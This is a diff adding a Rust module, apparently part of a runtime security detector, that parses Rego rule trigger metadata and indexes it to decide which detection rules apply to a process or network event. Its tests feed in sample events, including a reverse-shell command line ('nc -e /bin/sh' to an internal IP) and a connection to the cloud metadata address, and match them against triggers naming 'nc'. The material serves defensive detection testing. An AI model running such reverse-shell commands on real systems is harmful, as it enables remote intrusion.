@@ -1,0 +1,410 @@
+//! Rule triggers, tested natively: which rules an event can trigger, before
+//! any Rego runs.
+//!
+//! A rule's `meta.triggers` (see policies/lib/triggers.rego, the reference
+//! this mirrors) is a necessary condition for its `hits`. main.rego only
+//! considers the rules an event triggers, so evaluating just those rules'
+//! modules gives the bundle's own decision, in Palisade as in OPA. At load,
+//! [`super::compiled::Policy::compile`] checks on the sample events that
+//! this test and the Rego one agree.
+
+use std::collections::HashMap;
+
+use serde_json::Value;
+
+use super::PolicyError;
+
+/// The keys an alternative may use, as policies/lib/triggers.rego names them.
+const KEYS: &[&str] = &[
+    "names",
+    "ancestors",
+    "paths",
+    "substrings",
+    "lower_substrings",
+    "container",
+    "drift",
+    "euid_raised",
+];
+
+/// One alternative as written: every condition present must hold.
+#[derive(Debug, Clone, Default, PartialEq)]
+struct Alternative {
+    names: Option<Vec<String>>,
+    ancestors: Option<Vec<String>>,
+    paths: Option<Vec<String>>,
+    substrings: Option<Vec<String>>,
+    lower_substrings: Option<Vec<String>>,
+    container: bool,
+    drift: bool,
+    euid_raised: bool,
+}
+
+/// A rule's triggers, as read from its `meta`: `None` alternatives means
+/// the rule has none and is considered for every event of its kinds.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Triggers {
+    alternatives: Option<Vec<Alternative>>,
+}
+
+impl Triggers {
+    /// Reads `meta.triggers` (absent or null: no triggers). `at` is the
+    /// rule's `file:line`, for errors.
+    pub fn parse(meta: &Value, at: &str) -> Result<Self, PolicyError> {
+        let list = match meta.get("triggers") {
+            None | Some(Value::Null) => return Ok(Self { alternatives: None }),
+            Some(Value::Array(list)) if !list.is_empty() => list,
+            Some(other) => {
+                return Err(PolicyError::invalid(
+                    at,
+                    format!(
+                        "`meta.triggers` must be a non-empty array of objects (or absent), not {}",
+                        truncated(other)
+                    ),
+                ));
+            }
+        };
+        let mut alternatives = Vec::with_capacity(list.len());
+        for (i, alt) in list.iter().enumerate() {
+            let bad =
+                |why: String| PolicyError::invalid(at, format!("`meta.triggers[{i}]`: {why}"));
+            let Some(alt) = alt.as_object().filter(|a| !a.is_empty()) else {
+                return Err(bad(format!("must be a non-empty object, not {}", truncated(alt))));
+            };
+            let mut parsed = Alternative::default();
+            for (key, want) in alt {
+                let list = || strings(want).map_err(|why| bad(format!("`{key}` {why}")));
+                match key.as_str() {
+                    "names" => parsed.names = Some(list()?),
+                    "ancestors" => parsed.ancestors = Some(list()?),
+                    "paths" => parsed.paths = Some(list()?),
+                    "substrings" => parsed.substrings = Some(list()?),
+                    "lower_substrings" => parsed.lower_substrings = Some(list()?),
+                    "container" | "drift" | "euid_raised" => {
+                        if want != &Value::Bool(true) {
+                            return Err(bad(format!("`{key}` can only be true, not {want}")));
+                        }
+                        match key.as_str() {
+                            "container" => parsed.container = true,
+                            "drift" => parsed.drift = true,
+                            _ => parsed.euid_raised = true,
+                        }
+                    }
+                    _ => return Err(bad(format!("unknown key `{key}` (one of {KEYS:?})"))),
+                }
+            }
+            alternatives.push(parsed);
+        }
+        Ok(Self { alternatives: Some(alternatives) })
+    }
+
+    /// Whether the rule has no triggers (is considered for every event).
+    pub fn is_always(&self) -> bool {
+        self.alternatives.is_none()
+    }
+}
+
+fn strings(value: &Value) -> Result<Vec<String>, String> {
+    let list = value
+        .as_array()
+        .ok_or_else(|| format!("must be an array of strings, not {}", truncated(value)))?;
+    list.iter()
+        .map(|v| {
+            v.as_str()
+                .map(str::to_string)
+                .ok_or_else(|| format!("holds {}, not a string", truncated(v)))
+        })
+        .collect()
+}
+
+fn truncated(value: &Value) -> String {
+    let text = value.to_string();
+    match text.char_indices().nth(80) {
+        Some((cut, _)) => format!("{}…", &text[..cut]),
+        None => text,
+    }
+}
+
+/// A set of names as bits over the names some trigger lists.
+type Bits = Vec<u64>;
+
+fn overlaps(a: &Bits, b: &Bits) -> bool {
+    a.iter().zip(b).any(|(x, y)| x & y != 0)
+}
+
+/// One alternative, ready to test: names as bits.
+struct Compiled {
+    names: Option<Bits>,
+    ancestors: Option<Bits>,
+    paths: Option<Vec<String>>,
+    substrings: Option<Vec<String>>,
+    lower_substrings: Option<Vec<String>>,
+    container: bool,
+    drift: bool,
+    euid_raised: bool,
+}
+
+/// Every rule's triggers, tested together: each name any trigger lists is
+/// numbered once, so an event's names are hashed once, not once per rule.
+pub struct TriggerIndex {
+    numbers: HashMap<String, usize>,
+    words: usize,
+    /// Per rule, in the policy's rule order; `None`: no triggers.
+    rules: Vec<Option<Vec<Compiled>>>,
+}
+
+impl TriggerIndex {
+    pub fn new<'a>(rules: impl IntoIterator<Item = &'a Triggers>) -> Self {
+        let rules: Vec<&Triggers> = rules.into_iter().collect();
+        let mut numbers = HashMap::new();
+        let all_names = rules.iter().flat_map(|t| t.alternatives.iter().flatten());
+        for alt in all_names {
+            for name in alt.names.iter().chain(&alt.ancestors).flatten() {
+                let next = numbers.len();
+                numbers.entry(name.clone()).or_insert(next);
+            }
+        }
+        let words = numbers.len().div_ceil(64).max(1);
+        let bits = |names: &Option<Vec<String>>| {
+            names.as_ref().map(|names| {
+                let mut bits = vec![0u64; words];
+                for n in names {
+                    let i = numbers[n];
+                    bits[i / 64] |= 1 << (i % 64);
+                }
+                bits
+            })
+        };
+        let rules = rules
+            .iter()
+            .map(|t| {
+                t.alternatives.as_ref().map(|alts| {
+                    alts.iter()
+                        .map(|a| Compiled {
+                            names: bits(&a.names),
+                            ancestors: bits(&a.ancestors),
+                            paths: a.paths.clone(),
+                            substrings: a.substrings.clone(),
+                            lower_substrings: a.lower_substrings.clone(),
+                            container: a.container,
+                            drift: a.drift,
+                            euid_raised: a.euid_raised,
+                        })
+                        .collect()
+                })
+            })
+            .collect();
+        Self { numbers, words, rules }
+    }
+
+    /// What the triggers look at in `event`, computed once for all rules.
+    pub fn facts(&self, event: &Value) -> EventFacts {
+        let process = &event["process"];
+        let binary = text(&process["binary"]).unwrap_or("");
+        let filename = text(&process["filename"]).unwrap_or("");
+        let args: Vec<&str> = match &process["args"] {
+            Value::Array(args) => args.iter().filter_map(text).collect(),
+            _ => Vec::new(),
+        };
+        let mut names = vec![0u64; self.words];
+        for path in [binary, filename].into_iter().chain(args.iter().copied()) {
+            self.mark(&mut names, basename(path));
+        }
+        let mut ancestors = vec![0u64; self.words];
+        if let Value::Array(list) = &process["ancestors"] {
+            for binary in list.iter().filter_map(|a| text(&a["binary"])) {
+                self.mark(&mut ancestors, basename(binary));
+            }
+        }
+        let cwd = text(&process["cwd"]).unwrap_or("");
+        let mut exec_paths = vec![binary.to_string(), filename.to_string()];
+        if !filename.is_empty() && !filename.starts_with('/') {
+            exec_paths.push(format!("{cwd}/{filename}"));
+        }
+        let daddr = event["network"]["daddr"].as_str().unwrap_or("");
+        let mut text = exec_paths.join("\n");
+        for line in [&args.join(" "), daddr] {
+            text.push('\n');
+            text.push_str(line);
+        }
+        EventFacts {
+            names,
+            ancestors,
+            exec_paths,
+            text,
+            lower_text: std::cell::OnceCell::new(),
+            container: event["container"]["id"].as_str().is_some_and(|id| !id.is_empty()),
+            drift: process["exe"]["drift"].is_object(),
+            euid_raised: process["euid"].as_f64() == Some(0.0)
+                && process["uid"].as_f64().is_some_and(|uid| uid != 0.0),
+        }
+    }
+
+    fn mark(&self, bits: &mut Bits, name: &str) {
+        if let Some(&i) = self.numbers.get(name) {
+            bits[i / 64] |= 1 << (i % 64);
+        }
+    }
+
+    /// Whether rule number `rule` is considered for the event.
+    pub fn fires(&self, rule: usize, facts: &EventFacts) -> bool {
+        let Some(Some(alternatives)) = self.rules.get(rule) else {
+            return true;
+        };
+        alternatives.iter().any(|alt| {
+            (!alt.container || facts.container)
+                && (!alt.drift || facts.drift)
+                && (!alt.euid_raised || facts.euid_raised)
+                && alt.names.as_ref().is_none_or(|want| overlaps(want, &facts.names))
+                && alt.ancestors.as_ref().is_none_or(|want| overlaps(want, &facts.ancestors))
+                && alt.paths.as_ref().is_none_or(|want| {
+                    want.iter()
+                        .any(|p| facts.exec_paths.iter().any(|path| path.starts_with(p.as_str())))
+                })
+                && alt
+                    .substrings
+                    .as_ref()
+                    .is_none_or(|want| want.iter().any(|s| facts.text.contains(s.as_str())))
+                && alt.lower_substrings.as_ref().is_none_or(|want| {
+                    let lower = facts.lower_text.get_or_init(|| facts.text.to_lowercase());
+                    want.iter().any(|s| lower.contains(s.as_str()))
+                })
+        })
+    }
+}
+
+/// What the triggers look at, computed once per event exactly as
+/// policies/lib/triggers.rego computes it.
+#[derive(Debug)]
+pub struct EventFacts {
+    /// Trigger names that are the last `/` component of the binary, the
+    /// filename or an argument.
+    names: Bits,
+    /// Trigger names that are the last component of an ancestor's binary.
+    ancestors: Bits,
+    /// binary, filename, and cwd + "/" + filename for a relative filename.
+    exec_paths: Vec<String>,
+    /// The exec paths, the command line and daddr, one per line.
+    text: String,
+    /// `text` lower-cased, made when a trigger asks for it.
+    lower_text: std::cell::OnceCell<String>,
+    container: bool,
+    drift: bool,
+    euid_raised: bool,
+}
+
+/// A string field as lib.text reads it: a string, or the `text` of a
+/// non-UTF-8 value (`{"base64": ..., "text": ...}`).
+fn text(value: &Value) -> Option<&str> {
+    match value {
+        Value::String(s) => Some(s),
+        Value::Object(o) => o.get("text").and_then(Value::as_str),
+        _ => None,
+    }
+}
+
+fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    /// Whether one rule with triggers `value` fires on `event`.
+    fn fires(value: Value, event: &Value) -> bool {
+        let triggers = Triggers::parse(&json!({ "triggers": value }), "r.rego:3").unwrap();
+        let index = TriggerIndex::new([&triggers]);
+        index.fires(0, &index.facts(event))
+    }
+
+    fn exec(binary: &str, args: &[&str]) -> Value {
+        json!({"kind": "process_exec", "process": {"binary": binary, "filename": binary, "args": args,
+               "cwd": "/tmp", "uid": 1000, "euid": 0,
+               "ancestors": [{"pid": 1, "binary": "/usr/sbin/nginx"},
+                             {"pid": 0, "binary": {"base64": "", "text": "/x/\u{fffd}sshd"}}]}})
+    }
+
+    #[test]
+    fn each_key_reads_what_the_rego_reads() {
+        let nc = exec("/bin/busybox", &["nc", "-e", "/bin/sh", "10.0.0.1"]);
+        let index = TriggerIndex::new([]);
+        let facts = index.facts(&nc);
+        assert_eq!(facts.exec_paths, ["/bin/busybox", "/bin/busybox"]);
+        assert_eq!(facts.text, "/bin/busybox\n/bin/busybox\nnc -e /bin/sh 10.0.0.1\n");
+        assert!(facts.euid_raised && !facts.container && !facts.drift);
+
+        assert!(fires(json!([{"names": ["nc"]}]), &nc));
+        assert!(fires(json!([{"names": ["sh"]}]), &nc), "an argument's last component");
+        assert!(!fires(json!([{"names": ["ncat", "bin"]}]), &nc));
+        assert!(fires(json!([{"ancestors": ["nginx"]}]), &nc));
+        assert!(
+            fires(json!([{"ancestors": ["\u{fffd}sshd"]}]), &nc),
+            "a non-UTF-8 path by its text"
+        );
+        assert!(!fires(json!([{"ancestors": ["nc"]}]), &nc));
+        assert!(!fires(json!([{"paths": ["/tmp/"]}]), &nc), "an absolute filename");
+        let mut relative = nc.clone();
+        relative["process"]["filename"] = json!("./busybox");
+        assert!(fires(json!([{"paths": ["/tmp/./"]}]), &relative), "cwd + / + filename");
+        assert!(!fires(json!([{"paths": ["/sh"]}]), &nc));
+        assert!(fires(json!([{"substrings": ["-e /bin"]}]), &nc));
+        assert!(!fires(json!([{"substrings": ["-E /BIN"]}]), &nc));
+        let shouting = exec("/usr/bin/python3", &["python3", "-c", "IMPORT BASE64"]);
+        assert!(fires(json!([{"lower_substrings": ["base64"]}]), &shouting));
+        assert!(!fires(json!([{"lower_substrings": ["b32"]}]), &shouting));
+        assert!(fires(json!([{"euid_raised": true}]), &nc));
+        // Keys of one alternative all hold; any alternative will do.
+        assert!(!fires(json!([{"names": ["nc"], "container": true}]), &nc));
+        assert!(fires(json!([{"container": true}, {"names": ["busybox"]}]), &nc));
+        // No triggers: always considered.
+        let none = Triggers::parse(&json!({}), "r.rego:3").unwrap();
+        let index = TriggerIndex::new([&none]);
+        assert!(none.is_always() && index.fires(0, &index.facts(&nc)));
+
+        let mut drifted = exec("/app/x", &["x"]);
+        drifted["container"] = json!({"id": "abc"});
+        drifted["process"]["exe"] = json!({"drift": {"reason": "upper_layer"}});
+        assert!(fires(json!([{"container": true, "drift": true}]), &drifted));
+        assert!(!fires(json!([{"euid_raised": true}]), &json!({"process": {"euid": 0, "uid": 0}})));
+        let connect =
+            json!({"kind": "network_connect", "network": {"daddr": "::ffff:169.254.169.254"}});
+        assert!(fires(json!([{"substrings": ["169.254.169.254"]}]), &connect));
+    }
+
+    #[test]
+    fn many_names_spill_over_one_word() {
+        let names: Vec<String> = (0..200).map(|i| format!("tool{i}")).collect();
+        let event = exec("/usr/bin/tool137", &["tool137"]);
+        assert!(fires(json!([{"names": names}]), &event));
+        assert!(!fires(json!([{"names": names[..137]}]), &event));
+    }
+
+    #[test]
+    fn malformed_triggers_name_the_rule_and_the_alternative() {
+        let err = |value: Value| {
+            Triggers::parse(&json!({ "triggers": value }), "rules/x.rego:9")
+                .unwrap_err()
+                .to_string()
+        };
+        assert_eq!(
+            err(json!([{"names": ["nc"]}, {"binary": ["nc"]}])),
+            "rules/x.rego:9: `meta.triggers[1]`: unknown key `binary` (one of [\"names\", \"ancestors\", \"paths\", \"substrings\", \"lower_substrings\", \"container\", \"drift\", \"euid_raised\"])"
+        );
+        assert_eq!(
+            err(json!([{"container": false}])),
+            "rules/x.rego:9: `meta.triggers[0]`: `container` can only be true, not false"
+        );
+        assert_eq!(
+            err(json!([{"names": "nc"}])),
+            "rules/x.rego:9: `meta.triggers[0]`: `names` must be an array of strings, not \"nc\""
+        );
+        assert_eq!(
+            err(json!([{"paths": ["/tmp/", 1]}])),
+            "rules/x.rego:9: `meta.triggers[0]`: `paths` holds 1, not a string"
+        );
+        assert!(err(json!({})).contains("must be a non-empty array"));
+        assert!(err(json!([{}])).contains("must be a non-empty object"));
+    }
+}
